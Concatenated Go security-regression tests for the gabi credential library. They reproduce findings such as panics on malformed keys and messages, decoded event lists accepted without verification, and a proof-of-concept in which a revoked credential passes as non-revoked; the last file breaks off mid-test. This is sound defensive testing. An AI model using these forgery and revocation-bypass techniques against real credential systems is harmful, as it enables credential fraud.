	tab := rangeproof.GenerateSquaresTable(limit)
	for _, d := range []int64{0, 1, 2, 3, limit/4 - 2, limit/4 - 1} {
		huntRoundTrip(t, fmt.Sprintf("table ge diff %d", d), 1, 1, 1, big.NewInt(1000), big.NewInt(1000+d), tab)
	}
	for _, d := range []int64{1, 2, 3, limit/4 - 1, limit / 4} {
		huntRoundTrip(t, fmt.Sprintf("table le diff %d", d), 1, -1, 1, big.NewInt(1000+d), big.NewInt(1000), tab)
	}
}

// The structure memoises its commitments.
func TestHuntStructureReuse(t *testing.T) {
	g := setupPubkey(t)
	s, err := rangeproof.NewProofStructure(1, 1, 1, big.NewInt(45), nil)
	if err != nil {
		t.Fatal(err)
	}
	mr1, _ := common.RandomBigInt(g.Params.LmCommit)
	mr2, _ := common.RandomBigInt(g.Params.LmCommit)
	l1, _, err := s.CommitmentsFromSecrets(g, big.NewInt(100), mr1)
	if err != nil {
		t.Fatal(err)
	}
	// second use: another attribute value that does NOT satisfy the statement
	l2, commit2, err := s.CommitmentsFromSecrets(g, big.NewInt(7), mr2)
	if err == nil {
		c := big.NewInt(1234567)
		p := s.BuildProof(commit2, c)
		// what a verifier sees: the m response belonging to the second call
		p.MResponse = new(big.Int).Add(new(big.Int).Mul(c, big.NewInt(7)), mr2)
		l3 := s.CommitmentsFromProof(g, p, c)
		t.Errorf("second CommitmentsFromSecrets on the same structure with m=7 (statement m>=45 false) returns no error; same commitments as first call: %v; proof for what the caller passed verifies: %v",
			fmt.Sprint(l1) == fmt.Sprint(l2), fmt.Sprint(l3) == fmt.Sprint(l2))
	}
}
