package gabikeys_test

import (
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"

	"github.com/privacybydesign/gabi/gabikeys"
)

// F9: key loading does not refuse malformed key files with an error: a negative base is accepted; a public key
// without <n> (or a private key without <p>) makes the loader panic; NewPublicKeyFromFile accepts a modulus of an
// unsupported length and returns a key with nil Params.
func f9try(t *testing.T, name string, f func() error) {
	defer func() {
		if r := recover(); r != nil {
			t.Errorf("%s: panicked: %v", name, r)
		}
	}()
	if err := f(); err == nil {
		t.Errorf("%s: accepted", name)
	}
}

func TestF9(t *testing.T) {
	negBase := strings.Replace(xmlPubKey1, "<Base_2>", "<Base_2>-", 1)
	f9try(t, "negative base", func() error { _, err := gabikeys.NewPublicKeyFromXML(negBase); return err })

	noN := regexp.MustCompile(`(?s)<n>.*?</n>`).ReplaceAllString(xmlPubKey1, "")
	f9try(t, "public key without n", func() error { _, err := gabikeys.NewPublicKeyFromXML(noN); return err })
	noS := regexp.MustCompile(`(?s)<S>.*?</S>`).ReplaceAllString(xmlPubKey1, "")
	f9try(t, "public key without S", func() error { _, err := gabikeys.NewPublicKeyFromXML(noS); return err })

	noP := regexp.MustCompile(`(?s)<p>.*?</p>`).ReplaceAllString(xmlPrivKey1, "")
	f9try(t, "private key without p", func() error { _, err := gabikeys.NewPrivateKeyFromXML(noP, false); return err })
	f9try(t, "private key without p (demo)", func() error { _, err := gabikeys.NewPrivateKeyFromXML(noP, true); return err })

	shortN := regexp.MustCompile(`(?s)<n>.*?</n>`).ReplaceAllString(xmlPubKey1, "<n>1234567</n>")
	fname := filepath.Join(t.TempDir(), "pk.xml")
	if err := os.WriteFile(fname, []byte(shortN), 0644); err != nil {
		t.Fatal(err)
	}
	f9try(t, "file with unsupported modulus length", func() error {
		pk, err := gabikeys.NewPublicKeyFromFile(fname)
		if err == nil && pk != nil && pk.Params == nil {
			t.Logf("returned a key with nil Params")
		}
		return err
	})
	fname2 := filepath.Join(t.TempDir(), "pk2.xml")
	if err := os.WriteFile(fname2, []byte(noN), 0644); err != nil {
		t.Fatal(err)
	}
	f9try(t, "file without n", func() error { _, err := gabikeys.NewPublicKeyFromFile(fname2); return err })
}
