package revocation

import (
	"testing"

	"github.com/stretchr/testify/require"
)

// F14: Update.Prepend panics instead of rejecting when (a) the receiver holds no events, (b) the prepended list
// reaches up to the receiver's last event (empty remainder), (c) the receiver's accumulator was never verified
// (cached Accumulator nil) or is missing, (d) the list's last index is >= 2^63 above the receiver's first index.
func f14chain(t *testing.T) (*Update, []*Event) {
	sk, _ := generateKeys(t)
	update0, err := NewAccumulator(sk)
	require.NoError(t, err)
	acc := update0.SignedAccumulator.Accumulator
	events := update0.Events
	for i := 0; i < 3; i++ {
		var ev *Event
		acc, ev = revoke(t, acc, events[len(events)-1], sk)
		events = append(events, ev)
	}
	up, err := NewUpdate(sk, acc, events[2:])
	require.NoError(t, err)
	return up, events
}

func f14try(t *testing.T, name string, f func() error) {
	defer func() {
		if r := recover(); r != nil {
			t.Errorf("%s: Prepend panicked: %v", name, r)
		}
	}()
	_ = f()
}

func TestF14(t *testing.T) {
	up, events := f14chain(t)

	// (b) prepended list covers everything up to our last event
	f14try(t, "empty remainder", func() error {
		u := &Update{SignedAccumulator: up.SignedAccumulator, Events: up.Events}
		return u.Prepend(NewEventList(events...))
	})
	// (a) receiver without events
	f14try(t, "no events", func() error {
		u := &Update{SignedAccumulator: up.SignedAccumulator}
		return u.Prepend(NewEventList(events[:2]...))
	})
	// (c) accumulator not verified / missing
	f14try(t, "unverified accumulator", func() error {
		u := &Update{SignedAccumulator: &SignedAccumulator{Data: up.SignedAccumulator.Data, PKCounter: up.SignedAccumulator.PKCounter}, Events: up.Events}
		return u.Prepend(NewEventList(events[:2]...))
	})
	f14try(t, "missing accumulator", func() error {
		u := &Update{Events: up.Events}
		return u.Prepend(NewEventList(events[:2]...))
	})
	// (d) last index far above ours
	f14try(t, "huge index", func() error {
		u := &Update{SignedAccumulator: up.SignedAccumulator, Events: up.Events}
		return u.Prepend(NewEventList(&Event{Index: 1<<63 + 5, E: events[0].E, ParentHash: events[0].ParentHash}))
	})
}

// the accepting direction still works: prepending the missing older events gives a verifiable chain
func TestF14Accept(t *testing.T) {
	up, events := f14chain(t)
	u := &Update{SignedAccumulator: up.SignedAccumulator, Events: up.Events}
	require.NoError(t, u.Prepend(NewEventList(events[:2]...)))
	require.Len(t, u.Events, 4)
	u2 := &Update{SignedAccumulator: up.SignedAccumulator, Events: up.Events}
	require.NoError(t, u2.Prepend(NewEventList(events[:3]...)), "overlapping by one")
	require.Len(t, u2.Events, 4)
	u3 := &Update{SignedAccumulator: up.SignedAccumulator, Events: up.Events}
	if err := u3.Prepend(NewEventList(events...)); err == nil {
		require.Len(t, u3.Events, 4)
	}
}
