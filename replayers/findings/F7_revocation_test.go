package revocation

import (
	"testing"

	"github.com/stretchr/testify/require"
)

// F7: Update.Product memoises the product of the first call regardless of `from`: one update object applied to a
// witness at index 1 and then to a witness at index 0 makes the second update fail although both are not revoked.
func TestF7(t *testing.T) {
	sk, pk := generateKeys(t)
	update0, err := NewAccumulator(sk)
	require.NoError(t, err)
	acc0 := update0.SignedAccumulator.Accumulator
	w0, err := RandomWitness(sk, acc0) // witness at index 0
	require.NoError(t, err)
	w0.SignedAccumulator = update0.SignedAccumulator

	events := update0.Events
	acc1, ev1 := revoke(t, acc0, events[0], sk) // index 1 (revokes someone else)
	events = append(events, ev1)
	up1, err := NewUpdate(sk, acc1, events)
	require.NoError(t, err)
	w1, err := RandomWitness(sk, acc1) // witness at index 1
	require.NoError(t, err)
	w1.SignedAccumulator = up1.SignedAccumulator

	acc2, ev2 := revoke(t, acc1, ev1, sk)
	events = append(events, ev2)
	acc3, ev3 := revoke(t, acc2, ev2, sk)
	events = append(events, ev3)
	up3, err := NewUpdate(sk, acc3, events) // one shared update object covering events 0..3
	require.NoError(t, err)

	require.NoError(t, w1.Update(pk, up3), "witness at index 1")
	require.NoError(t, w1.Verify(pk))
	// same update object, older witness: must also succeed (it is not revoked)
	if err := w0.Update(pk, up3); err != nil {
		t.Errorf("witness at index 0 fails on the shared update object after it was used for a witness at index 1: %v", err)
	}
}
