// F35-F40: reproducers written by a reviewing sub-agent (TestHunt...) for the defects of package revocation repaired in the commits
// listed in known_findings.json; every test here failed on the tree before those commits.
package revocation

import (
	"encoding/json"
	"fmt"
	mathrand "math/rand"
	"testing"

	"github.com/fxamacker/cbor"
	"github.com/privacybydesign/gabi/big"
	"github.com/stretchr/testify/require"
)

// huntCatch runs f and returns the recovered panic value, if any.
func huntCatch(f func()) (p any) {
	defer func() {
		if r := recover(); r != nil {
			p = r
		}
	}()
	f()
	return nil
}

func huntJSON(t *testing.T, v any) []byte {
	bts, err := json.Marshal(v)
	require.NoError(t, err)
	return bts
}

// ---------------------------------------------------------------------------------------------
// (a) panics on decodable messages

// An Update without "sacc" (or with "sacc":null) decodes fine and makes Update.Verify and
// Witness.Update dereference a nil *SignedAccumulator.
func TestHuntUpdateNilSignedAccumulator(t *testing.T) {
	update, pk, sk, acc := generateUpdate(t)
	w, err := RandomWitness(sk, acc)
	require.NoError(t, err)
	w.SignedAccumulator = update.SignedAccumulator

	cborNull, err := cbor.Marshal(map[string]any{"sacc": nil}, cbor.EncOptions{})
	require.NoError(t, err)

	for name, dec := range map[string]func(u *Update) error{
		"json-empty": func(u *Update) error { return json.Unmarshal([]byte(`{}`), u) },
		"json-null": func(u *Update) error {
			return json.Unmarshal([]byte(`{"sacc":null,"e":{"i":1,"hash":"EiAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA==","e":["Aw=="]}}`), u)
		},
		"cbor-null": func(u *Update) error { return cbor.Unmarshal(cborNull, u) },
	} {
		var u Update
		require.NoError(t, dec(&u), name)
		if p := huntCatch(func() { _, _ = u.Verify(pk) }); p != nil {
			t.Errorf("%s: Update.Verify panicked: %v", name, p)
		}
		if p := huntCatch(func() { _ = w.Update(pk, &u) }); p != nil {
			t.Errorf("%s: Witness.Update panicked: %v", name, p)
		}
	}
}

// An Event decoded from JSON with "e":null as the last event of a list: EventList.Verify hashes the
// last event (hashEquals against acc.EventHash) before it looks at the values.
func TestHuntEventNilValueLast(t *testing.T) {
	update, pk, _, acc := generateUpdate(t)
	var ev Event
	bts := huntJSON(t, update.Events[len(update.Events)-1])
	var m map[string]any
	require.NoError(t, json.Unmarshal(bts, &m))
	m["e"] = nil
	require.NoError(t, json.Unmarshal(huntJSON(t, m), &ev))
	require.Nil(t, ev.E)

	events := append(append([]*Event{}, update.Events[:len(update.Events)-1]...), &ev)
	if p := huntCatch(func() { _ = NewEventList(events...).Verify(acc) }); p != nil {
		t.Errorf("EventList.Verify panicked on last event without value: %v", p)
	}
	u := &Update{SignedAccumulator: update.SignedAccumulator, Events: events}
	if p := huntCatch(func() { _, _ = u.Verify(pk) }); p != nil {
		t.Errorf("Update.Verify panicked on last event without value: %v", p)
	}
	// a null entry in a decoded []*Event
	var evs []*Event
	require.NoError(t, json.Unmarshal([]byte(`[null]`), &evs))
	if p := huntCatch(func() { _ = NewEventList(evs...).Verify(acc) }); p != nil {
		t.Errorf("EventList.Verify panicked on null event: %v", p)
	}
}

// FlattenEventLists: an empty decoded list among two or more, or a list decoded without
// ComputeProduct.
func TestHuntFlattenEventLists(t *testing.T) {
	update, _, _, _ := generateUpdate(t)
	good := huntJSON(t, NewEventList(update.Events[:2]...))

	a := &EventList{ComputeProduct: true}
	require.NoError(t, json.Unmarshal(good, a))
	empty := &EventList{ComputeProduct: true}
	require.NoError(t, json.Unmarshal([]byte(`{"i":0,"e":[]}`), empty))
	if p := huntCatch(func() { _, _ = FlattenEventLists([]*EventList{a, empty}) }); p != nil {
		t.Errorf("FlattenEventLists panicked on a decoded empty list: %v", p)
	}

	b := &EventList{}
	require.NoError(t, json.Unmarshal(good, b))
	if p := huntCatch(func() { _, _ = FlattenEventLists([]*EventList{b}) }); p != nil {
		t.Errorf("FlattenEventLists panicked on a list decoded without ComputeProduct: %v", p)
	}
}

// Update.Product with a from outside the events of the update.
// (TestHuntProductRange removed from this copy: observation, behaviour not changed)

// Witness decoded from JSON with u = 0 or without e, then updated.
func TestHuntWitnessUpdateDegenerate(t *testing.T) {
	sk, pk := generateKeys(t)
	first, err := NewAccumulator(sk)
	require.NoError(t, err)
	acc := first.SignedAccumulator.Accumulator
	events := first.Events
	event := events[0]
	for range 3 {
		acc, event = revoke(t, acc, event, sk)
		events = append(events, event)
	}
	update, err := NewUpdate(sk, acc, events)
	require.NoError(t, err)

	prod := new(big.Int).Set(update.Product(1))
	for name, js := range map[string]string{
		"u=0, e=product+1": fmt.Sprintf(`{"u":0,"e":%s,"sacc":%s}`, new(big.Int).Add(prod, big.NewInt(1)).String(), huntJSON(t, first.SignedAccumulator)),
		"u=0, e=product-1": fmt.Sprintf(`{"u":0,"e":%s,"sacc":%s}`, new(big.Int).Sub(prod, big.NewInt(1)).String(), huntJSON(t, first.SignedAccumulator)),
		"e=null":           fmt.Sprintf(`{"u":5,"e":null,"sacc":%s}`, huntJSON(t, first.SignedAccumulator)),
		"u=null":           fmt.Sprintf(`{"u":null,"e":5,"sacc":%s}`, huntJSON(t, first.SignedAccumulator)),
	} {
		var w Witness
		require.NoError(t, json.Unmarshal([]byte(js), &w), name)
		var u Update
		require.NoError(t, json.Unmarshal(huntJSON(t, update), &u))
		if p := huntCatch(func() { _ = w.Update(pk, &u) }); p != nil {
			t.Errorf("%s: Witness.Update panicked: %v", name, p)
		}
	}
}

// Hash from arbitrary bytes (CBOR carries the raw bytes; JSON goes through MHFromBytes).
func TestHuntHashGarbage(t *testing.T) {
	ev := &Event{Index: 1, E: big.NewInt(3)}
	inputs := [][]byte{nil, {}, {0x12}, {0x12, 0x20}, {0x12, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0x7f},
		{0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0x01, 0x00}, {0x80}, {0x80, 0x80}, {0x12, 0x80}, {0x00, 0x00}, {0x12, 0x00},
		{0x11, 0x14, 1, 2, 3}, {0x92, 0x00, 0x20}}
	for _, in := range inputs {
		h := Hash(in)
		if p := huntCatch(func() {
			_, _ = h.Algorithm()
			_ = h.wellFormed()
			_ = ev.hashEquals(h)
			_ = h.String()
			_ = h.Equal(nil)
			var h2 Hash
			_ = json.Unmarshal(huntJSON(t, h), &h2)
			ev2 := &Event{Index: 0, E: big.NewInt(3), ParentHash: h}
			_ = NewEventList(ev2).Verify(&Accumulator{EventHash: h})
			_ = NewEventList(ev2).Verify(&Accumulator{EventHash: ev2.hash()})
		}); p != nil {
			t.Errorf("hash %x: panic %v", in, p)
		}
	}
	for _, s := range []string{`""`, `"!"`, `"Eg"`, `"EiA"`, `"EiAA"`, `null`, `5`, `"____________"`} {
		var h Hash
		if p := huntCatch(func() { _ = json.Unmarshal([]byte(s), &h); _, _ = h.Algorithm() }); p != nil {
			t.Errorf("hash json %s: panic %v", s, p)
		}
	}
}

// ---------------------------------------------------------------------------------------------
// (b) altered messages accepted

// An EventList decoded from JSON or CBOR is marked verified by uncompress, and Verify returns before it
// compares the last event with the hash in the accumulator (and before the checks of the first parent
// hash and the values).
func TestHuntDecodedEventListNotBoundToAccumulator(t *testing.T) {
	update, _, _, acc := generateUpdate(t)
	forged := NewEventList(
		&Event{Index: 0, E: big.NewInt(3), ParentHash: update.Events[0].ParentHash},
		&Event{Index: 1, E: big.NewInt(5)},
		&Event{Index: 2, E: big.NewInt(7)},
		&Event{Index: 3, E: big.NewInt(11)},
	)
	require.Error(t, NewEventList(forged.Events...).Verify(acc), "in memory the forged list is refused")

	var el EventList
	require.NoError(t, json.Unmarshal(huntJSON(t, forged), &el))
	if err := el.Verify(acc); err == nil {
		t.Errorf("EventList.Verify accepted a JSON-decoded list of events that have nothing to do with the accumulator")
	}
	bts, err := cbor.Marshal(forged, cbor.EncOptions{})
	require.NoError(t, err)
	var el2 EventList
	require.NoError(t, cbor.Unmarshal(bts, &el2))
	if err := el2.Verify(acc); err == nil {
		t.Errorf("EventList.Verify accepted a CBOR-decoded list of events that have nothing to do with the accumulator")
	}
	// zero value and truncated first parent hash, refused in memory
	var el3 EventList
	require.NoError(t, json.Unmarshal([]byte(`{"i":7,"hash":"EgA=","e":[0]}`), &el3))
	if err := el3.Verify(acc); err == nil {
		t.Errorf("EventList.Verify accepted a decoded list with value 0 and an empty first parent hash")
	}
}

// A verified EventList keeps saying yes for another accumulator and after its events were changed.
func TestHuntEventListVerifiedSticky(t *testing.T) {
	update, _, sk, acc := generateUpdate(t)
	el := NewEventList(update.Events...)
	require.NoError(t, el.Verify(acc))
	acc2, _ := revoke(t, acc, update.Events[len(update.Events)-1], sk)
	if err := el.Verify(acc2); err == nil {
		t.Errorf("EventList.Verify accepted for a different accumulator (event hash %s vs %s)", acc.EventHash, acc2.EventHash)
	}
}

// ECDSA signatures are malleable: (r, n-s) verifies as well, so a SignedAccumulator with altered signature
// bytes is accepted. Also data appended to / keys added to the CBOR tuple.
// (TestHuntSignatureMalleable removed from this copy: observation, behaviour not changed)

// Once a SignedAccumulator carries its cached Accumulator, UnmarshalVerify accepts it for any key, any
// counter and any data.
// (TestHuntSignedAccumulatorCacheBypass removed from this copy: observation, behaviour not changed)

// ---------------------------------------------------------------------------------------------
// (c) histories

// Update.UnmarshalJSON into an Update that has been used keeps the cached product of the old events.
func TestHuntUpdateReuseStaleProduct(t *testing.T) {
	sk, pk := generateKeys(t)
	first, err := NewAccumulator(sk)
	require.NoError(t, err)
	acc := first.SignedAccumulator.Accumulator
	w1, err := RandomWitness(sk, acc)
	require.NoError(t, err)
	w1.SignedAccumulator = first.SignedAccumulator
	w2, err := RandomWitness(sk, acc)
	require.NoError(t, err)
	w2.SignedAccumulator = first.SignedAccumulator

	events := first.Events
	event := events[0]
	for range 2 {
		acc, event = revoke(t, acc, event, sk)
		events = append(events, event)
	}
	u1, err := NewUpdate(sk, acc, events)
	require.NoError(t, err)
	for range 2 {
		acc, event = revoke(t, acc, event, sk)
		events = append(events, event)
	}
	u2, err := NewUpdate(sk, acc, events)
	require.NoError(t, err)

	var u Update // the receiver's reused message object
	require.NoError(t, json.Unmarshal(huntJSON(t, u1), &u))
	require.NoError(t, w1.Update(pk, &u))
	require.NoError(t, json.Unmarshal(huntJSON(t, u2), &u))
	if err = w2.Update(pk, &u); err != nil {
		t.Errorf("honest witness cannot be updated with a freshly decoded update (stale product kept by UnmarshalJSON): %v", err)
	}
}

// Prepend writes into the spare capacity of the event list's backing array before verifying.
func TestHuntPrependSharedBackingArray(t *testing.T) {
	sk, pk := generateKeys(t)
	first, err := NewAccumulator(sk)
	require.NoError(t, err)
	acc := first.SignedAccumulator.Accumulator
	events := first.Events
	event := events[0]
	for range 4 {
		acc, event = revoke(t, acc, event, sk)
		events = append(events, event)
	}
	full, err := NewUpdate(sk, acc, events) // events 0..4
	require.NoError(t, err)

	l1 := &EventList{ComputeProduct: true}
	require.NoError(t, json.Unmarshal(huntJSON(t, NewEventList(events[:3]...)), l1))
	l2 := &EventList{ComputeProduct: true}
	require.NoError(t, json.Unmarshal(huntJSON(t, NewEventList(events[3:4]...)), l2))
	el, err := FlattenEventLists([]*EventList{l1, l2}) // 0..3
	require.NoError(t, err)
	t.Logf("len %d cap %d", len(el.Events), cap(el.Events))

	good := &Update{SignedAccumulator: full.SignedAccumulator, Events: events[4:]}
	_, err = good.Verify(pk)
	require.NoError(t, err)
	require.NoError(t, good.Prepend(el))
	_, err = good.Verify(pk)
	require.NoError(t, err)

	bad := &Update{SignedAccumulator: full.SignedAccumulator, Events: []*Event{{Index: 4, E: big.NewInt(3), ParentHash: events[4].ParentHash}}}
	require.Error(t, bad.Prepend(el))
	if _, err = good.Verify(pk); err != nil {
		t.Errorf("a failed Prepend on another update changed the events of an update that was prepended before: %v", err)
	}
}

// Prepend to an update that starts at index 0
func TestHuntPrependAtZero(t *testing.T) {
	update, pk, _, _ := generateUpdate(t) // events 0..3
	_, err := update.Verify(pk)
	require.NoError(t, err)
	el := &EventList{ComputeProduct: true}
	require.NoError(t, json.Unmarshal(huntJSON(t, NewEventList(update.Events[:2]...)), el))
	u1 := &Update{SignedAccumulator: update.SignedAccumulator, Events: update.Events[1:]}
	require.NoError(t, u1.Prepend(el), "overlapping prepend to update starting at 1 works")
	if err = update.Prepend(el); err != nil {
		t.Errorf("overlapping prepend to update starting at 0 fails: %v", err)
	}
}

// ---------------------------------------------------------------------------------------------
// (d) issuer side

// a private key without revocation support (no ECDSA key)
func TestHuntIssuerNoECDSA(t *testing.T) {
	sk, _ := generateKeys(t)
	sk.ECDSA = nil
	if p := huntCatch(func() { _, _ = NewAccumulator(sk) }); p != nil {
		t.Errorf("NewAccumulator panicked for a key without ECDSA key: %v", p)
	}
}

// The branch of Witness.Update for an accumulator with the same index and a later time installs the new
// accumulator without checking that the witness is valid against it. An accumulator of another credential
// type of the same issuer (same ECDSA key, nothing in the signed message says what it belongs to) or of a
// fork is installed, nil is returned and the witness no longer verifies.
func TestHuntWitnessUpdateSameIndexOtherAccumulator(t *testing.T) {
	sk, pk := generateKeys(t)
	ua, err := NewAccumulator(sk) // credential type A
	require.NoError(t, err)
	ub, err := NewAccumulator(sk) // credential type B, same issuer key
	require.NoError(t, err)
	w, err := RandomWitness(sk, ub.SignedAccumulator.Accumulator)
	require.NoError(t, err)
	w.SignedAccumulator = ub.SignedAccumulator
	require.NoError(t, w.Verify(pk))

	// the issuer confirms A a little later (as in TestWitnessUpdate: same index, later time, no events)
	accA := *ua.SignedAccumulator.Accumulator
	accA.Time += 60
	later, err := NewUpdate(sk, &accA, nil)
	require.NoError(t, err)
	var u Update
	require.NoError(t, json.Unmarshal(huntJSON(t, later), &u))

	u0 := new(big.Int).Set(w.U)
	err = w.Update(pk, &u)
	t.Logf("Witness.Update returned %v", err)
	if verr := w.Verify(pk); verr != nil {
		t.Errorf("Witness.Update returned %v for an accumulator with a different value; U unchanged: %v; witness now: %v", err, u0.Cmp(w.U) == 0, verr)
	}
}

// CBOR: nested event list in an update goes through the same checks as JSON?
func TestHuntUpdateCBORNested(t *testing.T) {
	update, pk, _, _ := generateUpdate(t)
	bts, err := cbor.Marshal(update, cbor.EncOptions{})
	require.NoError(t, err)
	var u Update
	require.NoError(t, cbor.Unmarshal(bts, &u))
	_, err = u.Verify(pk)
	require.NoError(t, err)

	raw := map[string]any{
		"sacc": map[string]any{"data": []byte(update.SignedAccumulator.Data), "pk": 0},
		"e":    map[string]any{"i": 3, "hash": []byte(update.Events[3].ParentHash), "e": []any{nil}},
	}
	bts, err = cbor.Marshal(raw, cbor.EncOptions{})
	require.NoError(t, err)
	var u2 Update
	err = cbor.Unmarshal(bts, &u2)
	t.Logf("null value: decode: %v", err)
	if err == nil {
		t.Errorf("null value in nested CBOR event list decoded")
	}
	for _, e := range []any{"text", 5, -5, []any{1}, map[string]any{}, 1.5, true, []byte{}} {
		raw["e"].(map[string]any)["e"] = []any{e}
		bts, err = cbor.Marshal(raw, cbor.EncOptions{})
		require.NoError(t, err)
		var u3 Update
		if p := huntCatch(func() {
			if err = cbor.Unmarshal(bts, &u3); err != nil {
				return
			}
			_, verr := u3.Verify(pk)
			t.Logf("%T %v: decoded, verify %v", e, e, verr)
			if verr == nil {
				t.Errorf("%v accepted", e)
			}
		}); p != nil {
			t.Errorf("%v: panic %v", e, p)
		}
	}
}

// Witness with an empty signed accumulator
func TestHuntWitnessVerifyDegenerate(t *testing.T) {
	_, pk, _, _ := generateUpdate(t)
	for _, js := range []string{`{"u":1,"e":1,"sacc":{}}`, `{"u":1,"e":1,"sacc":{"data":"","pk":0}}`, `{"u":1,"e":1,"sacc":{"data":"oA==","pk":0}}`,
		`{"u":1,"e":1,"sacc":{"data":"omNNc2dAY1NpZ0A=","pk":0}}`, `{"u":1,"e":1,"sacc":{"data":"9g==","pk":0}}`} {
		var w Witness
		if err := json.Unmarshal([]byte(js), &w); err != nil {
			t.Logf("%s: %v", js, err)
			continue
		}
		if p := huntCatch(func() { t.Logf("%s: %v", js, w.Verify(pk)) }); p != nil {
			t.Errorf("%s: panic %v", js, p)
		}
	}
}

// random mutation of valid messages
func TestHuntFuzzMutations(t *testing.T) {
	update, pk, sk, _ := generateUpdate(t)
	first, err := NewAccumulator(sk)
	require.NoError(t, err)
	_ = first
	cb, err := cbor.Marshal(update, cbor.EncOptions{})
	require.NoError(t, err)
	js := huntJSON(t, update)
	elcb, err := cbor.Marshal(NewEventList(update.Events...), cbor.EncOptions{})
	require.NoError(t, err)
	seen := map[string]bool{}
	rnd := mathrand.New(mathrand.NewSource(1))
	mutate := func(in []byte) []byte {
		out := append([]byte{}, in...)
		for n := rnd.Intn(3) + 1; n > 0; n-- {
			switch rnd.Intn(4) {
			case 0:
				out[rnd.Intn(len(out))] = byte(rnd.Intn(256))
			case 1:
				i := rnd.Intn(len(out))
				out = append(out[:i], out[i+1:]...)
			case 2:
				i := rnd.Intn(len(out))
				out = append(out[:i], append([]byte{byte(rnd.Intn(256))}, out[i:]...)...)
			case 3:
				out[rnd.Intn(len(out))] ^= 1 << uint(rnd.Intn(8))
			}
		}
		return out
	}
	for i := 0; i < 150000; i++ {
		var in []byte
		kind := i % 3
		switch kind {
		case 0:
			in = mutate(cb)
		case 1:
			in = mutate(js)
		case 2:
			in = mutate(elcb)
		}
		p := huntCatch(func() {
			switch kind {
			case 0, 1:
				var u Update
				var err error
				if kind == 0 {
					err = cbor.Unmarshal(in, &u)
				} else {
					err = json.Unmarshal(in, &u)
				}
				if err != nil || u.SignedAccumulator == nil {
					return
				}
				acc, err := u.Verify(pk)
				if err == nil && (acc.Index != 3 || len(u.Events) > 0 && huntJSONString(u.Events) != huntJSONString(update.Events[4-len(u.Events):])) {
					panic(fmt.Sprintf("accepted altered update: %x", in))
				}
				el := &EventList{ComputeProduct: true}
				_ = json.Unmarshal(huntJSON(t, NewEventList(u.Events...)), el)
				_ = u.Prepend(el)
			case 2:
				el := &EventList{ComputeProduct: true}
				if err := cbor.Unmarshal(in, el); err != nil {
					return
				}
				u := *update
				_ = u.Prepend(el)
				_, _ = FlattenEventLists([]*EventList{el})
			}
		})
		if p != nil {
			msg := fmt.Sprint(p)
			if len(msg) > 60 {
				msg = msg[:60]
			}
			if !seen[msg] {
				seen[msg] = true
				t.Errorf("kind %d input %x: %v", kind, in, p)
			}
		}
	}
}

func huntJSONString(v any) string {
	bts, _ := json.Marshal(v)
	return string(bts)
}

// A witness that was stored and loaded again (no cached accumulator) handed to NewProofCommit / ProofCommit.Update.
func TestHuntProofCommitWitnessWithoutCache(t *testing.T) {
	update, pk, sk, acc := generateUpdate(t)
	w, err := RandomWitness(sk, acc)
	require.NoError(t, err)
	w.SignedAccumulator = update.SignedAccumulator
	_, commit, err := NewProofCommit(pk, w, nil)
	require.NoError(t, err)
	var loaded Witness
	require.NoError(t, json.Unmarshal(huntJSON(t, w), &loaded))
	if p := huntCatch(func() { _, _, _ = NewProofCommit(pk, &loaded, nil) }); p != nil {
		t.Errorf("NewProofCommit panicked on a decoded witness: %v", p)
	}
	if p := huntCatch(func() { commit.Update(make([]*big.Int, 6), &loaded) }); p != nil {
		t.Errorf("ProofCommit.Update panicked on a decoded witness: %v", p)
	}
}

// Decoding into a witness that has been verified keeps the cached accumulator: the new bytes are never checked.
// (TestHuntWitnessDecodeOverVerified removed from this copy: observation, behaviour not changed)
