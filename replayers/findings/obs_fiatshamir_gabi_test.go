package gabi

import (
	"fmt"
	"reflect"
	"strings"
	"testing"

	"github.com/privacybydesign/gabi/big"
	"github.com/privacybydesign/gabi/gabikeys"
	"github.com/privacybydesign/gabi/internal/common"
	"github.com/privacybydesign/gabi/rangeproof"
	"github.com/privacybydesign/gabi/revocation"
	"github.com/stretchr/testify/require"
)

// Area 3: link between the non-revocation proof's alpha and "the" revocation attribute of the ProofD.
//
// The verifier does not know at which index the revocation attribute sits: ProofD.revocationAttrIndex() guesses it
// as "a hidden attribute whose response is short". The holder controls one attribute of every credential: the
// secret key at index 0. A holder who owns credential B (not revoked, witness (u_B, e_B)) takes e_B as the secret key
// of a further credential A of the same issuer key/accumulator. After A has been revoked, A is shown with a
// non-revocation proof made from B's witness, linked to the response of the secret key instead of the response
// of A's (revoked) revocation attribute.
//
// The test FAILS (require.False at the end) if the verifier accepts the revoked credential as not revoked.
func TestHuntNonrevLinkedToSecretKeyInsteadOfRevocationAttribute(t *testing.T) {
	witnessB, update, acc := setupRevocation(t, testPrivK, testPubK)

	// the witness for credential A, in the same accumulator
	witnessA, err := revocation.RandomWitness(testPrivK, acc)
	require.NoError(t, err)
	witnessA.SignedAccumulator = update.SignedAccumulator

	context, err := common.RandomBigInt(testPubK.Params.Lh)
	require.NoError(t, err)
	nonce1, err := common.RandomBigInt(testPubK.Params.Lstatzk)
	require.NoError(t, err)
	nonce2, err := common.RandomBigInt(testPubK.Params.Lstatzk)
	require.NoError(t, err)

	// Issuance of credential A; the holder chooses its secret key to be e_B
	secret := new(big.Int).Set(witnessB.E)
	b, err := NewCredentialBuilder(testPubK, context, secret, nonce2, nil, nil)
	require.NoError(t, err)
	commitMsg, err := b.CommitToSecretAndProve(nonce1)
	require.NoError(t, err)
	require.True(t, commitMsg.Proofs.Verify([]*gabikeys.PublicKey{testPubK}, context, nonce1, false, nil))
	issuer := NewIssuer(testPrivK, testPubK, context)
	attrsA := revocationAttrs(witnessA)
	msg, err := issuer.IssueSignature(commitMsg.U, attrsA, witnessA, nonce2, nil)
	require.NoError(t, err)
	credA, err := b.ConstructCredential(msg, attrsA)
	require.NoError(t, err)

	// The issuer revokes credential A
	acc2, event, err := acc.Remove(testPrivK, witnessA.E, update.Events[0])
	require.NoError(t, err)
	update2, err := revocation.NewUpdate(testPrivK, acc2, []*revocation.Event{event})
	require.NoError(t, err)

	// A's own witness is dead, B's witness follows the accumulator
	require.Equal(t, revocation.ErrorRevoked, credA.NonRevocationWitness.Update(testPubK, update2))
	require.NoError(t, witnessB.Update(testPubK, update2))
